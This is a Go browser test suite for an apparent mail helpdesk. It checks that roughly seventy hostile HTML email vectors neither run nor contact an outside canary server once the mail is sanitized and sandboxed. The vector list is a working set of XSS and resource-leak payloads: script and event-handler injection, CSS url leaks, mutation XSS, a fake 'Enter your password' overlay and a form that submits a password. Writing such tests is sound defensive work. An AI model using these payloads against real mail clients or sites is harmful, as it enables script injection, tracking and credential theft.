package browser

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
	"github.com/postern-mail/postern/services/desk/desktest"
)

// A vector is one way to reach out of a mail or to run in it. CANARY is a server that
// writes down who asks it.
type vector struct {
	name string
	html string
	// asks is the path that an unsanitized page asks the canary for; "" where today's
	// browsers do not fall for it any more.
	asks string
}

var vectors = []vector{
	{"script", `<script>fetch("CANARY/script"); console.log("ran script"); window.ran = 1; setTimeout(() => alert("ran script"), 0)</script>`, "/script"},
	{"script file", `<script src="CANARY/file.js"></script>`, "/file.js"},
	{"module", `<script type="module">fetch("CANARY/module")</script>`, "/module"},
	{"error handler", `<img src="data:," onerror='fetch("CANARY/onerror"); console.log("ran onerror")'>`, "/onerror"},
	{"load handler", `<svg onload='fetch("CANARY/svgload")'></svg>`, "/svgload"},
	{"toggle handler", `<details open ontoggle='fetch("CANARY/toggle")'><summary>x</summary>y</details>`, "/toggle"},
	{"focus handler", `<input autofocus onfocus='fetch("CANARY/focus")'>`, "/focus"},
	{"animation handler", `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend='fetch("CANARY/animation")'>x</b>`, "/animation"},
	{"slashed attributes", `<img/src="data:,"/onerror=fetch("CANARY/slashed")>`, "/slashed"},
	{"image", `<img src="CANARY/image">`, "/image"},
	{"candidates", `<img srcset="CANARY/srcset 1x, CANARY/srcset2 2x">`, "/srcset"},
	{"picture", `<picture><source srcset="CANARY/source"><img src="data:,"></picture>`, "/source"},
	{"background attribute", `<table background="CANARY/background"><tr><td>x</td></tr></table>`, "/background"},
	{"image button", `<input type="image" src="CANARY/button">`, "/button"},
	{"style url", `<div style="background-image:url(CANARY/styleurl)">x</div>`, "/styleurl"},
	{"style list", `<ul style="list-style:url('CANARY/stylelist')"><li>x</li></ul>`, "/stylelist"},
	{"style image-set", `<div style="background:image-set('CANARY/imageset' 1x)">x</div>`, "/imageset"},
	{"style escape", `<div style="background:\75rl(CANARY/escaped)">x</div>`, "/escaped"},
	{"style content", `<style>.c::after{content:url(CANARY/content)}</style><p class="c">x</p>`, "/content"},
	{"style import", `<style>@import "CANARY/import.css";</style>`, "/import.css"},
	{"style font", `<style>@font-face{font-family:f;src:url(CANARY/font)}.f{font-family:f}</style><p class="f">x</p>`, "/font"},
	{"style selector", `<input value="a"><style>input[value^=a]{background:url(CANARY/leak)}</style>`, "/leak"},
	{"sheet", `<link rel="stylesheet" href="CANARY/sheet.css">`, "/sheet.css"},
	{"icon preload", `<link rel="preload" as="image" href="CANARY/preload">`, "/preload"},
	{"old expression", `<div style="width:expression(alert(1))">x</div>`, ""},
	{"old binding", `<div style="-moz-binding:url(CANARY/binding)">x</div>`, ""},
	{"over the page", `<div style="position:fixed;inset:0;z-index:9;background:#fff">You are signed out. Enter your password.</div>`, ""},
	{"frame", `<iframe src="CANARY/frame"></iframe>`, "/frame"},
	{"frame document", `<iframe srcdoc='<script>parent.fetch("CANARY/srcdoc")</script>'></iframe>`, "/srcdoc"},
	{"frame script", `<iframe src='javascript:parent.fetch("CANARY/jsframe")'></iframe>`, "/jsframe"},
	{"frame data", `<iframe src='data:text/html,<img src="CANARY/dataframe">'></iframe>`, "/dataframe"},
	{"object", `<object data="CANARY/object"></object>`, "/object"},
	{"embed", `<embed src="CANARY/embed">`, "/embed"},
	{"video", `<video src="CANARY/video" poster="CANARY/poster" autoplay></video>`, "/poster"},
	{"audio", `<audio src="CANARY/audio" autoplay></audio>`, "/audio"},
	{"track", `<video><source src="CANARY/videosource"></video>`, "/videosource"},
	{"svg image", `<svg><image href="CANARY/svgimage" width="9" height="9"/></svg>`, "/svgimage"},
	{"svg style", `<svg><style>@import "CANARY/svgimport.css";</style></svg>`, "/svgimport.css"},
	{"svg animate", `<svg><a><animate attributeName="href" values='javascript:fetch("CANARY/animate")'/><text y="20">x</text></a></svg>`, ""},
	{"svg script", `<svg><script>fetch("CANARY/svgscript")</script></svg>`, "/svgscript"},
	{"svg begin", `<svg><animate onbegin='fetch("CANARY/begin")' attributeName="x" dur="1s"/></svg>`, "/begin"},
	{"svg foreign", `<svg><foreignObject><img src="CANARY/foreign"></foreignObject></svg>`, "/foreign"},
	{"svg use", `<svg><use href='data:image/svg+xml,<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(1)"/></svg>#x'/></svg>`, ""},
	{"svg feimage", `<svg><filter id="f"><feImage href="CANARY/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`, "/feimage"},
	{"mathml", `<math><mtext><img src="data:," onerror='fetch("CANARY/mathml")'></mtext></math>`, "/mathml"},
	{"mathml link", `<math href='javascript:alert(1)'>click</math>`, ""},
	{"mutation style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=CANARY/mutation1&gt;">`, ""},
	{"mutation noscript", `<noscript><p title="</noscript><img src='data:,' onerror='fetch(&quot;CANARY/noscript&quot;)'>">`, "/noscript"},
	{"mutation title", `<svg></p><style><a id="</style><img src=1 onerror=fetch('CANARY/mutation2')>">`, ""},
	{"mutation form", `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror='fetch("CANARY/mutation3")'>`, ""},
	{"mutation template", `<template><img src=x onerror=alert(1)></template><select><style></select><img src="data:," onerror='fetch("CANARY/mutation4")'></style>`, ""},
	{"comment", `<!--><img src="data:," onerror='fetch("CANARY/comment")'>-->`, "/comment"},
	{"comment bang", `<!-- --!><img src="data:," onerror='fetch("CANARY/bang")'> -->`, "/bang"},
	{"cdata", `<svg><![CDATA[><img src="data:," onerror=alert(1)>]]></svg>`, ""},
	{"textarea", `<textarea></textarea><img src="CANARY/textarea">`, "/textarea"},
	{"plaintext title", `<title><img src="</title><img src=CANARY/title>">`, "/title"},
	{"script link", `<a href="javascript:fetch('CANARY/jslink')">click</a>`, ""},
	{"split script link", "<a href=\"jav\tascript:fetch('CANARY/jslink2')\">click</a>", ""},
	{"data link", `<a href="data:text/html,<script>alert(1)</script>">click</a>`, ""},
	{"form", `<form action="CANARY/form" id="f"><input name="password"><button>Sign in</button></form><script>setTimeout(() => { let f = document.createElement("iframe"); f.name = "ff"; document.body.append(f); document.getElementById("f").target = "ff"; document.getElementById("f").submit() }, 0)</script>`, "/form"},
	{"button action", `<button formaction="javascript:alert(1)" form="f">x</button>`, ""},
	{"ping", `<a href="https://example.com" ping="CANARY/ping">click</a>`, ""},
	{"named for the page", `<img name="location"><form id="lines"><input id="main" name="attributes"></form><a id="keys-hint"></a>`, ""},
	{"manifest", `<link rel="manifest" href="CANARY/manifest">`, ""},
	{"prefetch", `<link rel="prefetch" href="CANARY/prefetch">`, "/prefetch"},
	{"preconnect", `<link rel="preconnect" href="CANARY/"><link rel="dns-prefetch" href="//canary.example/">`, ""},
	{"base", `<base href="CANARY/base/"><img src="relative">`, "/base/relative"},
	{"refresh", `<meta http-equiv="refresh" content="1;url=CANARY/refresh">`, "/refresh"},
}

// hostile is one mail with all of them.
func hostile(canary string) string {
	var html strings.Builder
	html.WriteString("<p>Hello, my printer is broken.</p>")
	for _, v := range vectors {
		fmt.Fprintf(&html, "\n<section>%s</section>", v.html)
	}
	return strings.ReplaceAll(html.String(), "CANARY", canary)
}

// prod does what a curious agent does in a message: the mouse goes over all of it, and
// the keyboard through it.
func (p *tab) prod() {
	p.t.Helper()
	box := eval[[]float64](p, `(() => { const b = document.querySelector("iframe").getBoundingClientRect(); return [b.x, b.y, b.width, b.height] })()`)
	for row := 0.05; row < 1; row += 0.1 {
		for column := 0.05; column < 1; column += 0.1 {
			call(p, input.DispatchMouseEvent, input.DispatchMouseEventParams{Type: input.DispatchMouseEventTypeMouseMoved, X: box[0] + column*box[2], Y: box[1] + row*box[3]})
		}
	}
	for range 20 {
		p.run(chromedp.KeyEvent("\t"))
	}
}

func TestAHostileMailRunsNothingAndReachesNothing(t *testing.T) {
	t.Parallel()
	c := newChrome(t)
	canary := newRecorder(t)
	raw := asHTML(hostile(canary.server.URL))
	w := desktest.New(t)
	ticket := w.Ticket(rendered(t, raw))
	p := c.tab()
	p.size(1200, 900, false)
	p.signIn(w, "agnes")
	p.seen()
	for _, path := range []string{"/tickets", "/tickets/" + ticket, "/tickets/" + ticket + "/message", "/tickets/" + ticket + "/message?as=text"} {
		p.open(w.Server.URL + path)
		if path == "/tickets/"+ticket {
			p.prod()
		}
		requests, ran, blocked := p.seen()
		if len(requests) == 0 {
			t.Errorf("%s: the test sees nothing", path)
		}
		for _, address := range requests {
			if !strings.HasPrefix(address, w.Server.URL+"/") {
				t.Errorf("%s: asks for %s", path, address)
			}
		}
		if len(ran) > 0 || len(blocked) > 0 {
			t.Errorf("%s: runs %q, has to be stopped from %q", path, ran, blocked)
		}
	}
	if shown := eval[string](p, "document.body.innerText"); !strings.Contains(shown, "my printer is broken") {
		t.Errorf("the mail does not show: %.200q", shown)
	}
	if asked, opened := canary.paths(), canary.connections(); len(asked) > 0 || opened > 0 {
		t.Errorf("%d connections, asked for %q", opened, asked)
	}
	if outside := c.outside.pages(); len(outside) > 0 {
		t.Errorf("asked outside for %q", outside)
	}
}

// The same mail, unsanitized and without our policies: it does all of it, so the test
// above can see.
func TestTheSameMailUnsanitizedRunsAndReaches(t *testing.T) {
	t.Parallel()
	c := newChrome(t)
	canary := newRecorder(t)
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		// Each stands in a document of its own: some would swallow those behind them.
		for _, v := range vectors {
			fmt.Fprintf(w, "<iframe width=300 height=60 srcdoc=\"%s\"></iframe>\n", strings.NewReplacer("&", "&amp;", `"`, "&quot;").Replace(strings.ReplaceAll(v.html, "CANARY", canary.server.URL)))
		}
	}))
	defer control.Close()
	var want []string
	for _, v := range vectors {
		// Autofocus is granted to one frame only, and not to one of another origin.
		if v.asks != "" && v.name != "focus handler" {
			want = append(want, v.asks)
		}
	}
	p := c.tab()
	p.size(1200, 9000, false)
	p.run(chromedp.Navigate(control.URL + "/"))
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	if missing := canary.await(ctx, want); len(missing) > 0 {
		t.Errorf("the canary is not asked for %q", missing)
	}
	_, ran, _ := p.seen()
	for _, line := range []string{`console "ran script"`, `console "ran onerror"`, "dialog ran script"} {
		if !slices.Contains(ran, line) {
			t.Errorf("%q is not seen in %q", line, ran)
		}
	}
	if requests := len(canary.paths()); requests < len(want) {
		t.Errorf("%d requests", requests)
	}
}

// Even if sanitizing had missed all of it, the frame's sandbox and policy stop it.
func TestTheFrameAloneStopsAHostileMail(t *testing.T) {
	t.Parallel()
	c := newChrome(t)
	canary := newRecorder(t)
	w := desktest.New(t)
	p := c.tab()
	p.size(1200, 900, false)
	p.signIn(w, "agnes")
	for _, v := range vectors {
		m := rendered(t, asHTML("<p>Hello</p>"))
		m.Message.Html = strings.ReplaceAll(v.html, "CANARY", canary.server.URL)
		ticket := w.Ticket(m)
		p.seen()
		p.open(w.Server.URL + "/tickets/" + ticket)
		if _, ran, _ := p.seen(); len(ran) > 0 {
			t.Errorf("%s: runs %q", v.name, ran)
		}
		if at := eval[string](p, "location.pathname"); at != "/tickets/"+ticket {
			t.Errorf("%s: leads to %s", v.name, at)
		}
	}
	if asked := canary.paths(); len(asked) > 0 {
		t.Errorf("the canary is asked for %q", asked)
	}
	if outside := c.outside.pages(); len(outside) > 0 {
		t.Errorf("asked outside for %q", outside)
	}
}
